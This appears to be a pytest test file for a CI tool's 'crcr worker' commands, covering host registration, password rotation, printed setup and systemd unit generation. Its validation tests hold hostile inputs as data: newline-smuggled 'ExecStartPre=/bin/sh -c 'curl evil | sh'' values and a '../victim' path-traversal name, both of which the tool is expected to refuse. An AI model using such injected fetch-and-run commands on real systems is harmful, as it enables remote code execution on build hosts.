"""`crcr worker ...` run as a lab admin runs it, on files in a temporary directory; no master is started."""

from __future__ import annotations

import os
import pwd
import re
import shlex
import stat
import subprocess
import sys

import pytest
import yaml

from clirun import InProcessCrcr
from configfiles import make_dirs, write_backend, write_file, write_worker, write_worker_password
from crcr.shipped import crcr_host
from harness import VENV_BIN, free_port
from masterfolders import master_folder, process_in  # noqa: F401 (a fixture)
from printedsetup import host_with_venv, paragraph, run_paragraph

# What the printed create-worker commands pass as the password: buildbot.tac then reads it on standard input.
PLACEHOLDER = "see-password-file"


@pytest.fixture
def dirs(tmp_path):
    dirs = make_dirs(tmp_path)
    write_backend(dirs.backends, "spyre", device="spyre")
    return dirs


@pytest.fixture
def crcr(dirs, monkeypatch, capsys):
    env = {
        "CRCR_BACKENDS_DIR": str(dirs.backends),
        "CRCR_WORKERS_DIR": str(dirs.workers),
        "CRCR_SECRETS_DIR": str(dirs.secrets),
        # Nothing listens here: the relay is not running.
        "CRCR_WEB_PORT": str(free_port()),
    }
    return InProcessCrcr(monkeypatch, capsys, env)


@pytest.fixture
def register(crcr):
    def register(name="lab1", *extra, **env):
        return crcr("worker", "register", name, "--device", "spyre:2", "--admin", "Jane <jane@example.com>", *extra, **env)

    return register


def test_register_by_hand_prints_the_setup_with_the_configured_master_address(dirs, crcr, register):
    result = register("lab1", "--max-builds", "1", "--by-hand", CRCR_MASTER_ADDRESS="relay.example.org:9989")

    assert result.returncode == 0, result.stderr
    assert yaml.safe_load((dirs.workers / "lab1.yaml").read_text()) == {
        "devices": {"spyre": 2}, "admin": "Jane <jane@example.com>", "max_builds": 1
    }
    for unit in ("lab1-spyre-0", "lab1-spyre-1"):
        assert (
            f"/var/lib/crcr-worker/venv/bin/buildbot-worker create-worker --quiet --keepalive 30 --maxdelay 60 "
            f"/var/lib/crcr-worker/{unit} relay.example.org:9989 {unit} {PLACEHOLDER}\n"
        ) in result.stdout
    assert "ExecStart=/var/lib/crcr-worker/venv/bin/buildbot-worker start --nodaemon /var/lib/crcr-worker/%i" in (
        result.stdout
    )
    # The host file is valid for `crcr check` right away.
    assert crcr("check").returncode == 0


UNKNOWN_BASEDIR = (
    "crcr master reconfig --basedir DIR (the folder given to crcr master start; the demo's is .state/demo/master)"
)


def reconfig_lines(crcr, register) -> list[str]:
    """The `crcr master reconfig` line of register, register --rotate-password and remove."""
    printed = [register("lab1").stdout, crcr("worker", "register", "lab1", "--rotate-password").stdout,
               crcr("worker", "remove", "lab1").stdout]
    return [line for out in printed for line in out.splitlines() if "crcr master reconfig" in line]


def test_with_no_master_running_the_reconfig_line_says_which_folder_dir_is(dirs, crcr, register):
    # No master reads this test's host files (the end-to-end tests' relays read their own).
    assert reconfig_lines(crcr, register) == [
        f"Make the running master accept it, no restart needed: {UNKNOWN_BASEDIR}",
        f"Reconfigure the master: {UNKNOWN_BASEDIR}; then, on the host:",
        f"Reconfigure the master, which then disconnects the host's unit workers: {UNKNOWN_BASEDIR}",
    ]


def test_the_reconfig_line_names_the_folder_of_the_master_running(dirs, crcr, register, tmp_path, process_in):
    running = master_folder(tmp_path / "relay master")
    process_in(running, dirs.workers)
    command = f"crcr master reconfig --basedir '{running}'"

    assert reconfig_lines(crcr, register) == [
        f"Make the running master accept it, no restart needed: {command}",
        f"Reconfigure the master: {command}; then, on the host:",
        f"Reconfigure the master, which then disconnects the host's unit workers: {command}",
    ]


def up_command(printed: str) -> str:
    """The printed `crcr-host up` line, without its here-document."""
    [line] = [line for line in printed.splitlines() if line.startswith("python3 crcr-host up ")]
    return line.removesuffix(" <<'END'")


def up_arguments(printed: str) -> list[str]:
    """The `crcr-host up` command's arguments, as the host's shell splits them."""
    return shlex.split(up_command(printed))


def test_register_leads_with_the_host_tool_and_its_one_command_the_password_on_standard_input(dirs, crcr):
    result = crcr("worker", "register", "lab1", "--device", "spyre:2", "--device", "cuda", "--new-device", "--admin",
                  "Jane O'Hara <jane@example.com>", "--build-env", "/opt/torch/venv",
                  CRCR_BUILDBOT_URL="https://relay.example.org/ci", CRCR_MASTER_ADDRESS="relay.example.org:9989")

    assert result.returncode == 0, result.stderr
    password = (dirs.secrets / "worker-lab1").read_text().strip()
    setup = result.stdout.split("\n\n", 1)[1]
    assert setup.splitlines() == [
        "# On lab1: crcr's host tool, served by the relay (one Python file; needs python3 3.9 or later with venv, "
        "and git)",
        "curl -fsSo crcr-host https://relay.example.org/ci/plugins/crcr/crcr-host",
        "# As root on a host with systemd (production: builds run as the account crcr and cannot read the password),",
        "# or as yourself for a trial (your builds can read the password): create, key and start the units",
        f"{up_command(setup)} <<'END'",
        password,
        "END",
        "# Run it again at any time (after --rotate-password, a changed unit count): it changes only what differs.",
        "# python3 crcr-host status | stop | down",
    ]
    # The host's shell hands the tool exactly these arguments: quoting keeps the admin's name whole.
    assert up_arguments(setup) == [
        "python3", "crcr-host", "up", "--master", "relay.example.org:9989", "--name", "lab1",
        "--device", "spyre:2", "--device", "cuda:1", "--admin", "Jane O'Hara <jane@example.com>",
        "--build-env", "/opt/torch/venv",
    ]


def test_the_up_command_carries_the_hosts_folder_and_account_only_when_given(dirs, crcr, register):
    register("lab1")

    shown = crcr("worker", "show", "lab1", "--host-dir", "/srv/ci", "--host-user", "ci")

    assert shown.returncode == 0, shown.stderr
    assert up_arguments(shown.stdout)[-4:] == ["--host-dir", "/srv/ci", "--host-user", "ci"]
    assert "production: builds run as the account ci and cannot read the password" in shown.stdout
    assert shown.stdout.endswith("# python3 crcr-host status | stop | down --host-dir /srv/ci\n")
    # Not given, the tool chooses them for whoever runs it (root with systemd, or a trial as oneself).
    default = crcr("worker", "show", "lab1").stdout
    assert not {"--host-dir", "--host-user", "--build-env"} & set(up_arguments(default))
    assert "useradd" not in default and "systemctl" not in default


def test_the_up_command_carries_the_identify_command_of_each_of_the_hosts_devices_from_its_device_file(
        dirs, crcr, register):
    """The relay's device file is the one source of the command: the host tool runs it on each unit at `up`."""
    identify = "spyre-smi --index $CRCR_DEVICE_INDEX --pci --serial"
    write_file(dirs.workers / "devices" / "spyre.yaml", f"identify: {identify}\n")
    write_file(dirs.workers / "devices" / "cuda.yaml", "identify: nvidia-smi -L\n")  # no unit of the host's
    register("lab1")

    arguments = up_arguments(crcr("worker", "show", "lab1").stdout)

    assert arguments[-2:] == ["--identify", f"spyre={identify}"] and "--identify" not in arguments[:-2]
    taken = crcr_host.parser().parse_args(arguments[2:])
    units = crcr_host.unit_names(taken.name, taken.device)
    assert crcr_host.identify_commands(taken.identify, units, taken.name) == {"spyre": identify}


def test_the_up_command_asks_for_the_compiler_caches_the_relays_builds_on_the_hosts_devices_compile_through(
        dirs, crcr):
    """ccache is the tool's default: a host whose builds use sccache is told to install it."""
    write_file(dirs.backends / "builds" / "torch-cpu.yaml", "steps: [make]\nartifacts: [dist/*.whl]\n"
                                                             "compiler_cache: {kind: sccache, max_size: 5G}\n")
    write_file(dirs.backends / "builds" / "torch-xpu.yaml", "steps: [make]\nartifacts: [dist/*.whl]\n"
                                                             "device: xpu\ncompiler_cache: ccache\n")
    registered = crcr("worker", "register", "builder", "--device", "cpu:2", "--admin", "Jane <jane@example.com>",
                      "--new-device")  # no backend uses torch-cpu yet
    assert registered.returncode == 0, registered.stderr

    arguments = up_arguments(registered.stdout)

    assert arguments[arguments.index("--compiler-cache"):][:2] == ["--compiler-cache", "sccache"]
    assert arguments.count("--compiler-cache") == 1, "the xpu build is no build of this host's"
    assert crcr_host.parser().parse_args(arguments[2:]).compiler_cache == ["sccache"]


def test_the_setup_by_hand_names_each_units_card_as_the_host_tool_does(dirs, crcr, register, tmp_path):
    write_file(dirs.workers / "devices" / "spyre.yaml", "identify: echo card-$CRCR_DEVICE_INDEX\n")
    register("lab1")
    shown = crcr("worker", "show", "lab1", "--by-hand", "--host-dir", str(tmp_path))
    units = [tmp_path / f"lab1-spyre-{n}" for n in (0, 1)]
    for unit in units:
        (unit / "info").mkdir(parents=True)  # as create-worker, printed before, makes it

    subprocess.run(["bash", "-e", "-c", "\n".join(line for line in shown.stdout.splitlines() if "info/card" in line)],
                   check=True)

    assert [(unit / "info" / "card").read_text() for unit in units] == ["card-0\n", "card-1\n"]


def test_the_password_file_is_a_choice_of_the_setup_by_hand_only(dirs, crcr, register):
    """crcr-host up keeps the password in its folder's state/, readable by the account running up alone."""
    register("lab1")
    shown = crcr("worker", "show", "lab1", "--password-file", "/etc/ci/password")
    assert shown.returncode == 1 and "--password-file: only with --by-hand" in shown.stderr


def test_a_systemd_unit_file_is_written_only_for_the_setup_by_hand(dirs, crcr, register, tmp_path):
    unit = tmp_path / "crcr-worker@.service"

    result = register("lab1", "--systemd-unit", unit)

    assert result.returncode == 1
    assert result.stderr.startswith("error: --systemd-unit: only with --by-hand (crcr-host up writes its units"), (
        result.stderr
    )
    assert not unit.exists() and list(dirs.workers.iterdir()) == []


def test_register_names_the_hosts_maintainers(dirs, crcr, register):
    result = register("lab1", "--maintainer", "@carol", "--maintainer", "dave")

    assert result.returncode == 0, result.stderr
    # They may pause, stop and kill the host's units.
    assert yaml.safe_load((dirs.workers / "lab1.yaml").read_text())["maintainers"] == ["carol", "dave"]
    assert crcr("check").returncode == 0


def test_register_writes_the_build_environment_only_when_it_is_not_the_workers(dirs, crcr, register):
    assert register("lab1", "--build-env", "/opt/torch/venv").returncode == 0
    assert register("lab2", "--build-env", "worker").returncode == 0

    assert yaml.safe_load((dirs.workers / "lab1.yaml").read_text())["build_env"] == "/opt/torch/venv"
    assert "build_env" not in yaml.safe_load((dirs.workers / "lab2.yaml").read_text())
    assert crcr("check").returncode == 0


def test_a_build_environment_that_is_no_absolute_path_is_refused_and_nothing_written(dirs, crcr, register):
    result = register("lab1", "--build-env", "torch-venv")

    assert result.returncode == 1
    assert result.stderr.startswith(
        "error: --build-env: must be 'worker' (the worker's own venv) or the path of a venv, which must be an absolute "
        "path of letters, digits, '.', '_', '-' and '/' (got 'torch-venv')"
    ), result.stderr
    assert list(dirs.workers.iterdir()) == [] and list(dirs.secrets.iterdir()) == []


def heredoc_bodies(printed: str) -> list[str]:
    """The lines a shell reads as here-document bodies (standard input) rather than as commands."""
    bodies, lines = [], iter(printed.splitlines())
    for line in lines:
        if opened := re.search(r"<<'(\w+)'$", line):
            bodies.extend(iter(lambda: next(lines), opened[1]))
    return bodies


@pytest.mark.parametrize("by_hand", [[], ["--by-hand"]], ids=["up", "by-hand"])
@pytest.mark.parametrize("command", [["register"], ["show"], ["register", "--rotate-password"]])
def test_the_password_is_printed_only_as_standard_input_never_in_a_command(dirs, crcr, register, command, by_hand):
    first = register("lab1", *by_hand)
    result = first if command == ["register"] else crcr("worker", command[0], "lab1", *command[1:], *by_hand)

    assert result.returncode == 0, result.stderr
    password = (dirs.secrets / "worker-lab1").read_text().strip()
    assert password in heredoc_bodies(result.stdout)
    assert result.stdout.count(password) == 1, result.stdout


def test_the_printed_commands_pass_no_password_to_any_process_and_the_units_read_it_on_standard_input(
    dirs, crcr, register, tmp_path
):
    host_dir = host_with_venv(tmp_path / "host", VENV_BIN)
    password_file = tmp_path / "etc" / "crcr-worker" / "password"
    printed = register("lab1", "--host-dir", host_dir, "--password-file", password_file, "--by-hand").stdout
    password = (dirs.secrets / "worker-lab1").read_text().strip()

    # bash -x traces every command it runs with its arguments, as `ps` would show them.
    traced = [run_paragraph(printed, " create-worker "), run_paragraph(printed, "/dev/stdin")]

    assert all(password not in t.stderr for t in traced), [t.stderr for t in traced]
    assert (password_file.read_text().strip(), stat.S_IMODE(password_file.stat().st_mode)) == (password, 0o600)
    assert f"StandardInput=file:{password_file}\n" in printed, "systemd hands the file to each unit as it starts"
    for unit in ("lab1-spyre-0", "lab1-spyre-1"):
        tac = (host_dir / unit / "buildbot.tac").read_text()
        assert password not in tac
        [passwd] = [line for line in tac.splitlines() if "passwd = " in line]
        # What the unit logs in with when it starts, its standard input the password file.
        with open(password_file) as stdin:
            read = subprocess.run([sys.executable, "-c", f"{passwd}\nprint(passwd)"], stdin=stdin,
                                  capture_output=True, text=True, check=True)
        assert read.stdout == password + "\n"
        assert (host_dir / unit / "info" / "host").read_text() == f"lab1: spyre unit {unit[-1]}\n"


def test_by_hand_the_password_file_is_by_default_outside_the_workers_folders_and_only_root_writes_it(dirs, register):
    printed = register("lab1", "--by-hand").stdout

    assert "StandardInput=file:/etc/crcr-worker/password\n" in printed
    assert paragraph(printed, "/dev/stdin").startswith("# As root: the host's password in /etc/crcr-worker/password")


def test_passwords_are_random_per_host(dirs, crcr, register):
    register("lab1")
    register("lab2")
    assert (dirs.secrets / "worker-lab1").read_text() != (dirs.secrets / "worker-lab2").read_text()


@pytest.mark.parametrize(
    "args, message",
    [
        (["9lab", "--device", "spyre", "--admin", "a"], "error: NAME: must be letters, digits, '-' and '_', starting with a letter (got '9lab')"),
        (["lab 1", "--device", "spyre", "--admin", "a"], "error: NAME: must be letters, digits, '-' and '_', starting with a letter (got 'lab 1')"),
        (["lab1", "--device", "spyre:four", "--admin", "a"], "error: --device: 'spyre:four': the unit count after ':' must be a whole number"),
        (["lab1", "--device", "spyre:0", "--admin", "a"], "error: --device.spyre: should be greater than 0 (got 0)"),
        (["lab1", "--device", "spyre", "--device", "spyre:2", "--admin", "a"], "error: --device: 'spyre' given twice"),
        (["lab1", "--device", "spyre:2", "--admin", "a", "--max-builds", "3"], "error: host: max_builds: 3 is more than the host's 2 device units"),
        (["lab1", "--device", "spyre"], "error: --device and --admin are required to register a new host"),
        (["lab1", "--device", "spyre", "--admin", "a", "--maintainer", "not a login"], "error: --maintainer: not GitHub logins: 'not a login'"),
    ],
)
def test_bad_registration_is_refused_and_writes_nothing(dirs, crcr, register, args, message):
    result = crcr("worker", "register", *args)

    assert result.returncode == 1
    assert result.stderr.startswith(message), result.stderr
    assert list(dirs.workers.iterdir()) == []
    assert not dirs.secrets.exists() or list(dirs.secrets.iterdir()) == []


def test_a_device_no_backend_runs_on_is_refused_naming_the_backends_devices_and_nothing_written(dirs, crcr):
    write_backend(dirs.backends, "cpu", device="cpu")

    result = crcr("worker", "register", "lab1", "--device", "spyre:2", "--device", "nodevice:2", "--admin", "a")

    assert result.returncode == 1
    assert result.stderr.startswith(
        "error: --device: no backend runs on 'nodevice' (the backends' devices: cpu, spyre), so its units would stay "
        "idle; check the device's name, or pass --new-device if a backend for it is still to come"), result.stderr
    assert list(dirs.workers.iterdir()) == []
    assert not dirs.secrets.exists() or list(dirs.secrets.iterdir()) == []


def test_a_device_the_admin_says_is_new_is_registered_with_a_note_that_its_units_stay_idle(dirs, crcr):
    result = crcr("worker", "register", "lab1", "--device", "nodevice:2", "--new-device", "--admin", "a")

    assert result.returncode == 0, result.stderr
    assert "note: no backend runs on nodevice yet; those units stay idle until one does" in result.stderr
    assert yaml.safe_load((dirs.workers / "lab1.yaml").read_text())["devices"] == {"nodevice": 2}


def test_a_taken_name_is_refused_and_the_host_keeps_its_password(dirs, crcr, register):
    register("lab1")
    before = (dirs.secrets / "worker-lab1").read_text()

    result = register("lab1")

    assert result.returncode == 1
    assert "a host named 'lab1' is already registered; pass --rotate-password" in result.stderr
    assert (dirs.secrets / "worker-lab1").read_text() == before


def test_a_unit_name_taken_by_another_host_is_refused(dirs, crcr, register):
    crcr("worker", "register", "lab", "--device", "x-spyre", "--new-device", "--admin", "a")

    result = register("lab-x")

    assert result.returncode == 1
    assert "the unit worker names of 'lab-x' are taken: 'lab-x-spyre-0' (host lab)" in result.stderr
    assert not (dirs.workers / "lab-x.yaml").exists()


def test_rotate_password_changes_only_the_password_and_prints_the_up_command_that_rekeys_the_units(
    dirs, crcr, register
):
    register("lab1", "--build-env", "/opt/torch/venv")
    host_file = (dirs.workers / "lab1.yaml").read_text()
    before = (dirs.secrets / "worker-lab1").read_text()

    result = crcr("worker", "register", "lab1", "--rotate-password")

    assert result.returncode == 0, result.stderr
    after = (dirs.secrets / "worker-lab1").read_text()
    assert after != before
    assert (dirs.workers / "lab1.yaml").read_text() == host_file
    assert heredoc_bodies(result.stdout) == [after.strip()]  # the up command's standard input, nothing else
    assert up_arguments(result.stdout)[3:] == [
        "--master", "localhost:9989", "--name", "lab1", "--device", "spyre:2", "--admin", "Jane <jane@example.com>",
        "--build-env", "/opt/torch/venv",
    ]


def test_rotate_password_by_hand_prints_the_new_password_file_and_the_units_restart(dirs, crcr, register):
    register("lab1")

    result = crcr("worker", "register", "lab1", "--rotate-password", "--by-hand")

    assert result.returncode == 0, result.stderr
    after = (dirs.secrets / "worker-lab1").read_text()
    assert heredoc_bodies(result.stdout) == [after.strip()]  # the new password file, nothing else
    assert "systemctl restart crcr-worker@lab1-spyre-0 crcr-worker@lab1-spyre-1" in result.stdout
    assert "create-worker" not in result.stdout, "the units read the password file at start: nothing to remake"
    assert paragraph(result.stdout, "/dev/stdin").startswith("# On lab1, as root: the new password")


def test_rotate_password_refuses_to_change_the_host(dirs, crcr, register):
    register("lab1")

    result = crcr("worker", "register", "lab1", "--rotate-password", "--device", "spyre:4")

    assert result.returncode == 1
    assert "error: --device: --rotate-password changes only the password" in result.stderr
    assert yaml.safe_load((dirs.workers / "lab1.yaml").read_text())["devices"] == {"spyre": 2}


def test_rotate_password_refuses_to_change_the_maintainers(dirs, crcr, register):
    register("lab1", "--maintainer", "carol")

    result = crcr("worker", "register", "lab1", "--rotate-password", "--maintainer", "mallory")

    assert result.returncode == 1
    assert "error: --maintainer: --rotate-password changes only the password" in result.stderr
    assert yaml.safe_load((dirs.workers / "lab1.yaml").read_text())["maintainers"] == ["carol"]
    # Repeating the file's own maintainers is no change.
    assert crcr("worker", "register", "lab1", "--rotate-password", "--maintainer", "@carol").returncode == 0


def test_rotate_password_refuses_to_change_the_build_environment(dirs, crcr, register):
    register("lab1")

    result = crcr("worker", "register", "lab1", "--rotate-password", "--build-env", "/opt/torch/venv")

    assert result.returncode == 1
    assert "error: --build-env: --rotate-password changes only the password" in result.stderr
    assert "build_env" not in yaml.safe_load((dirs.workers / "lab1.yaml").read_text())
    assert crcr("worker", "register", "lab1", "--rotate-password", "--build-env", "worker").returncode == 0


def test_rotating_an_unknown_host_names_its_file(dirs, crcr, register):
    result = crcr("worker", "register", "ghost", "--rotate-password")
    assert result.returncode == 1
    assert f"error: {dirs.workers / 'ghost.yaml'}: no such worker host 'ghost'" in result.stderr


def test_systemd_unit_is_written_on_request(dirs, crcr, register, tmp_path):
    unit = tmp_path / "crcr-worker@.service"

    result = register("lab1", "--host-dir", "/srv/ci", "--host-user", "ci", "--systemd-unit", unit, "--by-hand")

    assert result.returncode == 0, result.stderr
    text = unit.read_text()
    assert "User=ci\n" in text and "ExecStart=/srv/ci/venv/bin/buildbot-worker start --nodaemon /srv/ci/%i\n" in text
    assert f"copy {unit} (written just now) to /etc/systemd/system/crcr-worker@.service" in result.stdout


def test_remove_deletes_the_file_and_the_password(dirs, crcr, register):
    register("lab1")

    result = crcr("worker", "remove", "lab1")

    assert result.returncode == 0, result.stderr
    assert not (dirs.workers / "lab1.yaml").exists()
    assert not (dirs.secrets / "worker-lab1").exists()
    again = crcr("worker", "remove", "lab1")
    assert again.returncode == 1 and "no such worker host 'lab1'" in again.stderr


def test_units_and_ensure_password_for_a_declared_host(dirs, crcr, register):
    write_worker(dirs.workers, "box", devices={"spyre": 2, "cuda": 1})

    assert crcr("worker", "units", "box").stdout.split() == ["box-spyre-0", "box-spyre-1", "box-cuda-0"]
    assert crcr("worker", "ensure-password", "box").stdout.startswith("created")
    first = (dirs.secrets / "worker-box").read_text()
    assert crcr("worker", "ensure-password", "box").stdout.startswith("kept")
    assert (dirs.secrets / "worker-box").read_text() == first


def test_list_without_a_running_master_says_the_connection_state_is_unknown(dirs, crcr, register):
    write_worker(dirs.workers, "box", devices={"spyre": 2})
    write_worker_password(dirs.secrets, "box")
    write_worker(dirs.workers, "nopass", devices={"spyre": 1}, admin="Ann <ann@example.com>")

    result = crcr("worker", "list")

    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[0].split() == ["HOST", "DEVICES", "BUILDS", "CONNECTED", "ADMIN"]
    assert lines[1].split()[:4] == ["box", "spyre:2", "2", "?"]
    assert "cannot log in: password file does not exist" in lines[2]
    assert "cannot be reached: connection state unknown" in lines[-1]


def files_under(root) -> dict:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


@pytest.mark.parametrize(
    "command",
    [
        ["register", "--device", "spyre", "--admin", "a"],
        ["register", "--rotate-password"],
        ["show"],
        ["units"],
        ["ensure-password"],
        ["remove"],
    ],
    ids=lambda command: "-".join(c.strip("-") for c in command[:2]),
)
def test_a_host_name_that_is_a_path_is_refused_by_every_command_and_nothing_outside_is_touched(
    dirs, crcr, tmp_path, command
):
    write_worker(tmp_path, "victim", devices={"spyre": 1})  # beside workers/: ../victim from there
    write_worker_password(dirs.secrets, "lab1")
    before = files_under(tmp_path)

    result = crcr("worker", command[0], "../victim", *command[1:])

    assert result.returncode == 1
    assert result.stderr.startswith(
        "error: NAME: must be letters, digits, '-' and '_', starting with a letter (got '../victim')"
    ), result.stderr
    assert files_under(tmp_path) == before


@pytest.mark.parametrize(
    "option, value, problem",
    [
        ("--host-user", "crcr\nExecStartPre=/bin/sh -c 'curl evil | sh'", "must be a POSIX account name"),
        ("--host-user", "build bot", "must be a POSIX account name"),
        ("--host-user", "ci%n", "must be a POSIX account name"),
        ("--host-dir", "/srv/ci\nExecStartPre=/bin/sh -c 'curl evil | sh'", "must be an absolute path"),
        ("--host-dir", "/srv/my ci", "must be an absolute path"),
        ("--host-dir", "/srv/%h", "must be an absolute path"),
        ("--host-dir", "srv/ci", "must be an absolute path"),
        ("--password-file", "/etc/crcr\nExecStartPre=/bin/sh -c 'curl evil | sh'", "must be an absolute path"),
        ("--password-file", "password", "must be an absolute path"),
        ("--host-user", "root", "builds run code from anyone"),
    ],
    ids=["user-newline", "user-space", "user-specifier", "dir-newline", "dir-space", "dir-specifier", "dir-relative",
         "password-newline", "password-relative", "user-root"],
)
def test_host_options_that_would_break_the_commands_or_the_systemd_unit_are_refused(
    dirs, crcr, register, tmp_path, option, value, problem
):
    unit_file = tmp_path / "crcr-worker@.service"

    result = register("lab1", option, value, "--systemd-unit", unit_file, "--by-hand")

    assert result.returncode == 1
    assert result.stderr.startswith(f"error: {option}: {problem}") and repr(value) in result.stderr, result.stderr
    assert result.stdout == ""
    assert list(dirs.workers.iterdir()) == [] and list(dirs.secrets.iterdir()) == []
    assert not unit_file.exists()
    # `show` prints the same commands: it refuses them too.
    write_worker(dirs.workers, "lab2", devices={"spyre": 1})
    write_worker_password(dirs.secrets, "lab2")
    for by_hand in ([], ["--by-hand"]):
        shown = crcr("worker", "show", "lab2", option, value, *by_hand)
        assert shown.returncode == 1 and shown.stderr.startswith(f"error: {option}: {problem}"), shown.stderr


def test_the_environment_of_a_trial_hosts_units_is_the_declared_one_not_the_callers(crcr, tmp_path):
    """What `make demo` starts its own units with: what the host tool gives a trial host's units, nothing of the
    shell that ran it (a user's PATH with its home folders, PIP_*, tokens)."""
    venv = tmp_path / "venv"
    result = crcr("worker", "unit-environment", "--venv", venv, CRCR_TEST_SECRET_SENTINEL="a token",
                  PIP_INDEX_URL="https://user:pass@pypi.example.org/simple")
    assert result.returncode == 0, result.stderr
    me = pwd.getpwuid(os.geteuid()).pw_name
    assert result.stdout.splitlines() == [
        f"HOME={os.path.expanduser('~')}", f"USER={me}", f"LOGNAME={me}",
        f"PATH={venv}/bin:/usr/local/bin:/usr/bin:/bin", "LANG=C.UTF-8"]


def test_the_environment_of_a_trial_hosts_units_needs_an_absolute_venv(crcr):
    result = crcr("worker", "unit-environment", "--venv", "venv")
    assert result.returncode != 0 and "--venv" in result.stderr and result.stdout == ""
